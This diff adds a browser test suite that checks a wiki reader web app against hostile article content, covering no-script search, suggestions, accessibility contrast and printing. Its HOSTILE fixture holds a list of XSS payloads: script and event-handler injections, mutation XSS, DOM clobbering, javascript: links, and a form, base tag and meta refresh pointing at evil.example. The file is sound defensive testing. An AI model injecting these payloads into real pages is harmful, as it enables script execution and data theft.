@@ -1,0 +1,285 @@
+"""The room in a real browser: hostile articles do nothing, search works without scripts, suggestions with them.
+
+Needs Debian's `chromium` (or any on the PATH) and the package `playwright`; skipped with its reason otherwise.
+"""
+
+from __future__ import annotations
+
+import shutil
+import socket
+import threading
+import time
+
+import pytest
+import uvicorn
+from shelf import ARTICLES, WIKI, FakeEdition, FakeLibrary, address, article
+
+from galactica.web import create_app
+
+sync_api = pytest.importorskip("playwright.sync_api", reason="the package playwright is not installed")
+
+FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+
+HOSTILE = """
+<p id="gx-main">before</p>
+<script>alert("script")</script><script src="https://evil.example/x.js"></script>
+<img src="x" onerror="alert('onerror')"><img src="https://evil.example/pixel.png">
+<svg onload="alert('svg')"><script>alert("svg script")</script></svg>
+<math><mtext></table><mglyph><style><img src=x onerror="alert('mutation')"></style></mglyph></mtext></math>
+<a id="link" href="javascript:alert('link')">click me</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
+<style>body{display:none} @import "https://evil.example/x.css";</style><link rel="stylesheet" href="https://evil.example/y.css">
+<p style="background:url(https://evil.example/bg.png)">styled</p>
+<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
+<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
+<form id="out" action="https://evil.example/take"><input name="q" value="secret"><button id="send">send</button></form>
+<input name="querySelectorAll"><form name="body"><input name="append"></form><a id="createElement"></a>
+<base href="https://evil.example/"><video src="https://evil.example/v.mp4" autoplay></video>
+<details open ontoggle="alert('toggle')"><summary>s</summary>d</details><body onload="alert('body')">
+<p class="gx-top gx-search gx-suggestions" id="gx-list-1">posing</p><p id="after">after</p>
+"""
+REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/go">'
+
+
+class Unwashed(FakeLibrary):
+    """A library whose sanitiser fails: the policy of the page is the last wall."""
+
+    def sanitise(self, body: str) -> str:
+        return body
+
+
+@pytest.fixture(scope="module")
+def chromium():
+    program = shutil.which("chromium") or shutil.which("google-chrome")
+    if program is None:
+        pytest.skip("there is no chromium on the PATH")
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=program, headless=True, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+def open_room(library):
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    server = uvicorn.Server(uvicorn.Config(create_app(library), ws="none", log_level="error"))
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
+    thread.start()
+    while not server.started:
+        time.sleep(0.01)
+    return server, thread, listener, f"http://127.0.0.1:{listener.getsockname()[1]}"
+
+
+@pytest.fixture
+def rooms():
+    opened = []
+
+    def open_one(library):
+        opened.append(open_room(library))
+        return opened[-1][3]
+
+    yield open_one
+    for server, thread, listener, _ in opened:
+        server.should_exit = True
+        thread.join()
+        listener.close()
+
+
+class Watch:
+    """A tab, and everything it did that an article must not cause."""
+
+    def __init__(self, browser, base: str, **options) -> None:
+        self.context = browser.new_context(**options)
+        self.page = self.context.new_page()
+        self.page.set_default_timeout(10_000)
+        self.dialogs, self.outside, self.console, self.errors = [], [], [], []
+        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
+        self.page.on("console", lambda message: self.console.append(message.text))
+        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
+
+        def gate(route):
+            if route.request.url.startswith(base):
+                route.continue_()
+            else:
+                self.outside.append(route.request.url)
+                route.abort()
+
+        self.context.route("**/*", gate)
+
+
+@pytest.fixture
+def watch(chromium):
+    tabs = []
+
+    def start(base, **options):
+        tabs.append(Watch(chromium, base, **options))
+        return tabs[-1]
+
+    yield start
+    for tab in tabs:
+        tab.context.close()
+
+
+def hostile(body: str, kind: type[FakeLibrary]) -> FakeLibrary:
+    return kind((FakeEdition([article("evil", "Evil", body), *ARTICLES[1:3]]),))
+
+
+def test_a_hostile_article_does_nothing(rooms, watch):
+    library = hostile(HOSTILE + REFRESH, FakeLibrary)
+    base = rooms(library)
+    tab = watch(base)
+    tab.page.goto(base + address(library, 0), wait_until="load")
+    tab.page.wait_for_timeout(300)
+    assert tab.page.locator(".gx-body").get_by_text("after").is_visible()
+    assert tab.page.evaluate("document.querySelector('#gx-main').tagName") == "MAIN"
+    assert tab.page.evaluate("document.querySelectorAll('.gx-search').length") == 1
+    links = tab.page.locator(".gx-body a").evaluate_all("all => all.map(a => a.protocol)")
+    assert not {"javascript:", "data:"} & set(links)
+    assert (tab.dialogs, tab.outside, tab.errors) == ([], [], [])
+    assert tab.page.url == base + address(library, 0)
+
+
+def test_even_unsanitised_the_policy_holds(rooms, watch):
+    library = hostile(HOSTILE, Unwashed)
+    base = rooms(library)
+    tab = watch(base)
+    tab.page.goto(base + address(library, 0), wait_until="load")
+    tab.page.evaluate("document.querySelector('#link').click()")
+    tab.page.evaluate("document.querySelector('#send').click()")
+    tab.page.wait_for_timeout(300)
+    assert (tab.dialogs, tab.outside) == ([], [])
+    assert tab.page.url == base + address(library, 0)
+    assert any("Content Security Policy" in text for text in tab.console)
+
+
+def test_the_rooms_own_pages_never_break_their_policy(rooms, watch):
+    library = FakeLibrary()
+    base = rooms(library)
+    short = library.editions[0].root[:12]
+    tab = watch(base)
+    lists = (f"/titles/{short}", f"/categories/{short}", f"/about/{short}", f"/category/{short}/Sky")
+    for place in ("/", "/search?q=ice", address(library, 0), address(library, 4), *lists, "/nowhere"):
+        tab.page.goto(base + place, wait_until="load")
+    console = [text for text in tab.console if "404" not in text]
+    assert (tab.dialogs, tab.outside, tab.errors, console) == ([], [], [], [])
+
+
+def test_a_picture_that_is_a_script_stays_a_picture(rooms, watch):
+    library = FakeLibrary()
+    base = rooms(library)
+    tab = watch(base)
+    tab.page.goto(base + address(library, 0), wait_until="load")
+    tab.page.locator("figure img").scroll_into_view_if_needed()
+    tab.page.wait_for_function("document.querySelector('figure img').complete")
+    tab.page.goto(f"{base}/m/{library.editions[0].root[:12]}/{WIKI.key}/I/halley.svg", wait_until="load")
+    tab.page.wait_for_timeout(200)
+    assert (tab.dialogs, tab.outside) == ([], [])
+
+
+def test_reading_and_searching_work_without_scripts(rooms, watch):
+    base = rooms(FakeLibrary())
+    tab = watch(base, java_script_enabled=False)
+    tab.page.goto(base)
+    tab.page.get_by_role("searchbox").fill("ice")
+    tab.page.keyboard.press("Enter")
+    tab.page.get_by_role("link", name="Comet", exact=True).click()
+    assert tab.page.locator("h1").inner_text() == "Comet"
+    tab.page.get_by_role("link", name="the belt").click()
+    assert tab.page.locator("h1").inner_text() == "Kuiper belt"
+    tab.page.get_by_role("link", name="dark").click()
+    assert tab.page.locator("h1").inner_text() == "Kuiper belt"
+    assert tab.page.locator("html").get_attribute("data-gx-look") == "dark"
+
+
+def test_typing_brings_suggestions_and_arrows_choose(rooms, watch):
+    base = rooms(FakeLibrary())
+    tab = watch(base)
+    tab.page.goto(base)
+    box = tab.page.locator(".gx-search input")
+    box.press_sequentially("kui", delay=20)
+    option = tab.page.get_by_role("option")
+    option.wait_for()
+    assert option.inner_text() == "Kuiper belt"
+    box.press("Escape")
+    assert not option.is_visible()
+    box.press_sequentially("p", delay=20)
+    option.wait_for()
+    box.press("ArrowDown")
+    assert box.get_attribute("aria-activedescendant") == option.get_attribute("id")
+    box.press("Enter")
+    tab.page.wait_for_url("**/A/Kuiper%20belt")
+    tab.page.keyboard.press("/")
+    assert tab.page.evaluate("document.activeElement.name") == "q"
+    assert (tab.errors, tab.outside) == ([], [])
+
+
+def test_suggestions_show_titles_as_text(rooms, watch):
+    base = rooms(FakeLibrary())
+    tab = watch(base)
+    tab.page.goto(base)
+    tab.page.locator(".gx-search input").press_sequentially("<scr", delay=20)
+    option = tab.page.get_by_role("option")
+    option.wait_for()
+    assert option.inner_text() == "<script>alert(1)</script>"
+    assert tab.dialogs == []
+
+
+@pytest.mark.parametrize("width", [320, 390, 768, 1024, 1440])
+def test_no_page_is_wider_than_its_window(rooms, watch, width):
+    wide = "<table><tr>" + "<td>a wide cell of a table</td>" * 40 + "</tr></table><pre>" + "x" * 400 + "</pre>"
+    long = article("long", "Donaudampfschifffahrtsgesellschaft" * 4, f"<h2>a</h2><h2>b</h2><h2>c</h2>{wide}")
+    library = FakeLibrary((FakeEdition([long, *ARTICLES[:3]]),))
+    base = rooms(library)
+    tab = watch(base, viewport={"width": width, "height": 800})
+    short = library.editions[0].root[:12]
+    for place in ("/", "/search?q=ice", address(library, 0), f"/titles/{short}", f"/about/{short}"):
+        tab.page.goto(base + place, wait_until="load")
+        assert tab.page.evaluate("document.documentElement.scrollWidth") <= width, place
+
+
+def luminance(color: str) -> float:
+    parts = [int(part) / 255 for part in color[4:-1].split(",")]
+    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_text_stands_out_from_its_ground(rooms, watch, scheme):
+    """Contrast of 4.5 to 1 at least. Source: WCAG 2.2, 1.4.3."""
+    library = FakeLibrary()
+    base = rooms(library)
+    tab = watch(base, color_scheme=scheme)
+    tab.page.goto(base + address(library, 0), wait_until="load")
+    ground = luminance(tab.page.evaluate("getComputedStyle(document.body).backgroundColor"))
+    assert (ground < 0.2) == (scheme == "dark")
+    for selector in ".gx-body p|.gx-body a|.gx-missing|.gx-under|.gx-contents a|.gx-aside h2|.gx-foot p".split("|"):
+        text = luminance(tab.page.locator(selector).first.evaluate("one => getComputedStyle(one).color"))
+        ratio = (max(ground, text) + 0.05) / (min(ground, text) + 0.05)
+        assert ratio >= 4.5, (selector, ratio)
+
+
+def test_the_keyboard_reaches_the_text_first(rooms, watch):
+    base = rooms(FakeLibrary())
+    tab = watch(base)
+    tab.page.goto(base)
+    tab.page.keyboard.press("Tab")
+    assert tab.page.evaluate("document.activeElement.getAttribute('href')") == "#gx-main"
+    for landmark in ("banner", "main", "contentinfo", "search"):
+        assert tab.page.get_by_role(landmark).count() >= 1, landmark
+
+
+def test_print_leaves_the_text_and_its_source(rooms, watch):
+    library = FakeLibrary()
+    base = rooms(library)
+    tab = watch(base)
+    tab.page.goto(base + address(library, 0), wait_until="load")
+    tab.page.emulate_media(media="print")
+    assert not tab.page.get_by_role("banner").is_visible()
+    assert tab.page.locator(".gx-body").is_visible()
+    assert tab.page.locator(".gx-source").is_visible()
